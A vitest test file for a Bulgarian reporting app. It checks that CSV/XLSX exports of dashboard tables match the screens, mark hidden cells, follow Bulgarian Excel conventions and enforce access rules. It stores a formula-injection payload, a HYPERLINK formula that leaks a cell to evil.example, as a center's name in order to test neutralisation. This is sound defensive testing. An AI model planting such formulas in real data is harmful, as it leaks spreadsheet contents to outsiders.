import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import ExcelJS from 'exceljs';
import { AGGREGATE_WORDS } from '@opora/common/vocabulary';
import { currentYear } from '@opora/common/calendar';
import { DEMO, TestApi, type GraphQLResponse } from '../support/api.ts';

// The network's and the municipality's tables as files (/reports/tables/<screen>.xlsx|.csv): each
// cell is the figure the screen's GraphQL query returns, a hidden one is „x (скрито)“ (text, never
// the number), labels not codes, CSV for Bulgarian Excel (BOM, semicolons, decimal commas) with
// formulas neutralised; and nobody exports a table its screen does not show them.

const YEAR = currentYear() - 1;
const PERIOD = { from: `${YEAR}-01`, to: `${YEAR}-12` };
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Отвори")';
const PROFILE = `mutation($input: CenterProfileInput!) { updateCenterProfile(input: $input) { nameBg } }`;

const TABLE = `breakdown indicator { code name }
  total { display suppressed value }
  cells { labels { code name } value { display suppressed value } }
  margins { labels { code name } value { display suppressed value } }`;
const MUNICIPAL = `query($period: MonthRange!, $breakdown: AggregateDimension) { municipalDashboard(period: $period, breakdown: $breakdown) {
  municipality { name } residents { ${TABLE} } territory { ${TABLE} } } }`;
const NETWORK = `query($indicators: [IndicatorCode!]!, $period: MonthRange!, $breakdown: AggregateDimension) {
  networkComparison(indicators: $indicators, period: $period, breakdown: $breakdown) { tables { ${TABLE} } } }`;
const NETWORK_INDICATORS = ['NEW_CASES', 'ACTIVE_CASES', 'SESSIONS', 'CLIENTS_SERVED', 'MEDIAN_DAYS_TO_FIRST_SESSION', 'CASELOAD_PER_FTE'];

type Value = { display: string; suppressed: boolean; value: number | null };
type Cell = { labels: { code: string; name: string }[]; value: Value };
type Table = { breakdown: string[]; indicator: { code: string; name: string }; total: Value; cells: Cell[]; margins: Cell[] };
type Lang = 'bg' | 'en';
/** What a file's cell must hold: a number, or exactly this text. */
type Expected = number | string;

/** The screen's table (FiguresTable), worked out from the GraphQL answer alone. */
function screenTable(table: Table, lang: Lang): { labels: string[]; codes: string[]; body: Expected[][] } {
  const figure = (v: Value | undefined): Expected => (!v ? '—' : v.suppressed ? `${v.display} (${AGGREGATE_WORDS.hidden[lang]})` : v.value === null ? v.display : v.value);
  const total = AGGREGATE_WORDS.total[lang];
  if (table.breakdown.length === 0) return { labels: [], codes: [], body: [[total, figure(table.total)]] };
  const rows: Cell['labels'][number][] = [];
  const cols: Cell['labels'][number][] = [];
  const at = new Map<string, Value>();
  for (const c of table.cells) {
    const [a, b] = c.labels;
    if (!a || a.code === 'ALL' || b?.code === 'ALL') continue;
    if (!rows.some((r) => r.code === a.code)) rows.push(a);
    if (b && !cols.some((x) => x.code === b.code)) cols.push(b);
    at.set(`${a.code}|${b?.code ?? ''}`, c.value);
  }
  const labels = [...rows, ...cols].map((l) => l.name);
  const codes = [...rows, ...cols].map((l) => l.code);
  if (cols.length === 0) return { labels, codes, body: [...rows.map((r) => [r.name, figure(at.get(`${r.code}|`))]), [total, figure(table.total)]] };
  const margin = (a: string | null, b: string | null) =>
    table.margins.find((m) => (a ? m.labels[0]?.code === a && m.labels[1]?.code === 'ALL' : m.labels[0]?.code === 'ALL' && m.labels[1]?.code === b))?.value;
  return {
    labels,
    codes,
    body: [
      ...rows.map((r) => [r.name, ...cols.map((c) => figure(at.get(`${r.code}|${c.code}`))), figure(margin(r.code, null))]),
      [total, ...cols.map((c) => figure(margin(null, c.code))), figure(table.total)],
    ],
  };
}

/** A CSV split the way Bulgarian Excel splits it: semicolons, RFC 4180 quotes, CRLF rows. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

/** The rows of the table in a file: from the row whose first cell is the breakdown's name (or empty) to the total row. */
function tableRows(all: unknown[][], totalWord: string): unknown[][] {
  const end = all.findIndex((r) => r[0] === totalWord);
  let start = end;
  while (start > 0 && all[start - 1]!.length > 0 && all[start - 1]!.some((c) => c !== '' && c !== null && c !== undefined)) start--;
  // The header row is the first of the block.
  return all.slice(start + 1, end + 1);
}

/** The screen's query in the reader's language (asked again while the figures are being decided). */
async function screenQuery<T>(api: TestApi, query: string, variables: Record<string, unknown>, token: string, lang: Lang): Promise<T> {
  for (let i = 0; i < 100; i++) {
    const result = await api.gql<T>(query, variables, token, { 'x-opora-language': lang });
    if (result.errors?.every((e) => e.extensions?.code === 'AGGREGATE_PREPARING') && result.errors.length) continue;
    expect(result.errors).toBeUndefined();
    return result.data as T;
  }
  throw new Error('figures never prepared');
}

function download(api: TestApi, path: string, token: string, lang: Lang = 'bg') {
  return fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${token}`, 'x-opora-language': lang } });
}

async function downloaded(api: TestApi, path: string, token: string, lang: Lang): Promise<Response> {
  for (let i = 0; i < 200; i++) {
    const res = await download(api, path, token, lang);
    if (res.status !== 503) return res;
    // Figures still being decided: the door says so, as the CSV door does, and when to ask again.
    expect(res.headers.get('retry-after')).toBeTruthy();
    expect(((await res.json()) as GraphQLResponse).errors?.[0]?.extensions?.code).toBe('AGGREGATE_PREPARING');
  }
  throw new Error('figures never prepared');
}

async function xlsxRows(body: ArrayBuffer): Promise<{ rows: unknown[][]; types: Map<string, number> }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body);
  const sheet = workbook.worksheets[0]!;
  const rows: unknown[][] = [];
  const types = new Map<string, number>();
  for (let r = 1; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    const values: unknown[] = [];
    for (let c = 1; c <= row.cellCount; c++) {
      const cell = row.getCell(c);
      values.push(cell.value ?? '');
      if (typeof cell.value === 'string') types.set(cell.value, cell.type);
      expect(cell.formula, `no formula in ${cell.address}`).toBeFalsy();
    }
    rows.push(values);
  }
  return { rows, types };
}

/** Checks one table's CSV and XLSX against the screen's table; answers how many hidden cells it saw. */
async function checkTable(api: TestApi, token: string, screen: string, table: Table, by: string | null, lang: Lang): Promise<number> {
  const expected = screenTable(table, lang);
  const query = new URLSearchParams({ indicator: table.indicator.code, ...PERIOD, ...(by ? { by } : {}) });
  const totalWord = AGGREGATE_WORDS.total[lang];

  const csv = await downloaded(api, `/reports/tables/${screen}.csv?${query}`, token, lang);
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  const bytes = new Uint8Array(await csv.arrayBuffer());
  // A UTF-8 BOM, so Excel reads the Cyrillic as UTF-8.
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
  const csvAll = csvCells(text);
  expect(csvAll[0]![0]).toBe(table.indicator.name);
  const csvTable = tableRows(csvAll, totalWord) as string[][];
  // Semicolons: the table's rows are as wide as the screen's.
  expect(csvTable.map((r) => r.length)).toEqual(expected.body.map((r) => r.length));
  csvTable.forEach((row, i) =>
    row.forEach((cell, j) => {
      const want = expected.body[i]![j]!;
      // A label starting with a formula character opens as text (a leading apostrophe).
      const shown = typeof want === 'number' ? String(want).replace('.', ',') : /^[=+\-@\t\r]/.test(want) ? `'${want}` : want;
      expect(cell, `${screen} ${table.indicator.code} csv [${i},${j}]`).toBe(shown);
    }),
  );

  const xlsx = await downloaded(api, `/reports/tables/${screen}.xlsx?${query}`, token, lang);
  expect(xlsx.status).toBe(200);
  expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const { rows } = await xlsxRows(await xlsx.arrayBuffer());
  expect(rows[0]![0]).toBe(table.indicator.name);
  const xlsxTable = tableRows(rows, totalWord);
  expect(xlsxTable.map((r) => r.length)).toEqual(expected.body.map((r) => r.length));
  xlsxTable.forEach((row, i) => row.forEach((cell, j) => expect(cell, `${screen} ${table.indicator.code} xlsx [${i},${j}]`).toEqual(expected.body[i]![j])));

  // Labels, never codes: each row and column is named as on screen (and the header names the columns).
  for (const [k, code] of expected.codes.entries()) {
    const name = expected.labels[k]!;
    if (name !== code) {
      expect(csvAll.flat()).not.toContain(code);
      expect(rows.flat()).not.toContain(code);
    }
  }
  return expected.body.flat().filter((c) => typeof c === 'string' && c.endsWith(`(${AGGREGATE_WORDS.hidden[lang]})`)).length;
}

describe('the screens’ tables as XLSX and CSV', () => {
  let api: TestApi;
  let viewer: string;
  let analyst: string;
  beforeAll(async () => {
    api = await TestApi.start();
    // The center names itself as an attacker would: its name is a row label of the territory tables.
    const manager = await api.login(DEMO.kazanlakManager);
    const { center } = await api.ok(`{ center { providerNameBg providerNameEn address: addressBg addressEn licensedCapacity nameEn } }`, {}, manager);
    await api.ok(PROFILE, { input: { nameBg: HYPERLINK, nameEn: center.nameEn, providerNameBg: center.providerNameBg, providerNameEn: center.providerNameEn, addressBg: center.address, addressEn: center.addressEn, licensedCapacity: center.licensedCapacity } }, manager);
    await api.prepareAggregates();
    viewer = await api.login(DEMO.kazanlakViewer);
    analyst = await api.login(DEMO.networkAnalyst);
  }, 1_200_000);
  afterAll(async () => {
    await api?.stop();
  });

  test.each([
    [null, 'bg'],
    ['SEX', 'bg'],
    [null, 'en'],
  ] as const)('the Kazanlak viewer: every cell of every table is the screen’s (breakdown %s, %s)', async (by, lang) => {
    const screen = (await screenQuery<{ municipalDashboard: { residents: Table[]; territory: Table[] } }>(api, MUNICIPAL, { period: PERIOD, breakdown: by }, viewer, lang)).municipalDashboard;
    let hidden = 0;
    expect(screen.residents.length + screen.territory.length).toBeGreaterThan(4);
    for (const table of screen.residents) hidden += await checkTable(api, viewer, 'municipality-residents', table, by, lang);
    for (const table of screen.territory) hidden += await checkTable(api, viewer, 'municipality-territory', table, by, lang);
    if (by) expect(hidden).toBeGreaterThan(0);
    if (lang === 'bg') {
      // The center's hostile name is a row of the territory tables, neutralised in the CSV (checked above).
      expect(screen.territory.some((t) => t.cells.some((c) => c.labels[0]?.name === HYPERLINK))).toBe(true);
    }
  }, 300_000);

  test.each([
    [null, 'bg'],
    ['SEX', 'bg'],
  ] as const)('the network analyst: every cell of every table is the screen’s (breakdown %s, %s)', async (by, lang) => {
    // The screen offers the breakdowns its chosen indicators share: by sex, those that have one.
    const indicators = by ? ['NEW_CASES', 'ACTIVE_CASES', 'CLIENTS_SERVED'] : NETWORK_INDICATORS;
    const screen = (await screenQuery<{ networkComparison: { tables: Table[] } }>(api, NETWORK, { indicators, period: PERIOD, breakdown: by }, analyst, lang)).networkComparison;
    let hidden = 0;
    for (const table of screen.tables) hidden += await checkTable(api, analyst, 'network', table, by, lang);
    expect(screen.tables.length).toBe(indicators.length);
    // Whether a network table by sex hides a cell depends on the demo's figures (none does today);
    // the municipal cases above assert that hidden cells are exported as hidden.
    expect(hidden).toBeGreaterThanOrEqual(0);
  }, 300_000);

  test('an English download says „suppressed“ for a hidden value, and the Bulgarian one „скрито“', async () => {
    const query = new URLSearchParams({ indicator: 'CLIENTS_SERVED', ...PERIOD, by: 'SEX' });
    const bg = await (await downloaded(api, `/reports/tables/network.csv?${query}`, analyst, 'bg')).text();
    const en = await (await downloaded(api, `/reports/tables/network.csv?${query}`, analyst, 'en')).text();
    expect(bg).toContain('x (скрито)');
    expect(bg).not.toContain('suppressed');
    expect(en).toContain('x (suppressed)');
    expect(en).toContain('Female');
    expect(bg).toContain('Жени');
  });
});

describe('nobody exports a table their screen does not show them', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await TestApi.start();
    await api.prepareAggregates();
  }, 1_200_000);
  afterAll(async () => {
    await api?.stop();
  });
  const q = (extra: Record<string, string> = {}) => new URLSearchParams({ indicator: 'CLIENTS_SERVED', ...PERIOD, ...extra });

  test('a municipal viewer: not the network’s tables, not another municipality’s, not center by center beyond its screen', async () => {
    const viewer = await api.login(DEMO.kazanlakViewer);
    for (const format of ['csv', 'xlsx']) expect((await download(api, `/reports/tables/network.${format}?${q()}`, viewer)).status).toBe(403);
    // The municipality comes from the session: a parameter naming another one changes nothing.
    const plovdiv = await api.login(DEMO.plovdivViewer);
    const plovdivCenters = (await api.ok<{ municipalDashboard: { centersOnTerritory: { name: string }[] } }>(`query($p: MonthRange!) { municipalDashboard(period: $p) { centersOnTerritory { name } } }`, { p: PERIOD }, plovdiv)).municipalDashboard.centersOnTerritory;
    expect(plovdivCenters.length).toBeGreaterThan(0);
    const own = await (await downloaded(api, `/reports/tables/municipality-territory.csv?${q({ municipality: 'PDV22', municipalityId: 'plovdiv' })}`, viewer, 'bg')).text();
    expect(own).toContain('Казанлък');
    for (const c of plovdivCenters) expect(own).not.toContain(c.name);
    // Its residents center by center (the screen never offers it), and an indicator its screen does not show.
    expect((await download(api, `/reports/tables/municipality-residents.csv?${q({ by: 'CENTER' })}`, viewer)).status).toBe(400);
    expect((await download(api, `/reports/tables/municipality-residents.csv?${q({ by: 'RESIDENCE_MUNICIPALITY' })}`, viewer)).status).toBe(400);
    expect((await download(api, `/reports/tables/municipality-territory.xlsx?${q({ indicator: 'MEDIAN_DAYS_TO_ASSESSMENT' })}`, viewer)).status).toBe(404);
  });

  test('center staff, the network for a municipal table, and nobody signed in: refused', async () => {
    const manager = await api.login(DEMO.kazanlakManager);
    for (const screen of ['network', 'municipality-residents', 'municipality-territory']) {
      expect((await download(api, `/reports/tables/${screen}.xlsx?${q()}`, manager)).status).toBe(403);
      expect((await fetch(`${api.url}/reports/tables/${screen}.csv?${q()}`)).status).toBe(401);
    }
    const analyst = await api.login(DEMO.networkAnalyst);
    expect((await download(api, `/reports/tables/municipality-territory.csv?${q()}`, analyst)).status).toBe(403);
    expect((await download(api, `/reports/tables/elsewhere.csv?${q()}`, analyst)).status).toBe(404);
  });
});
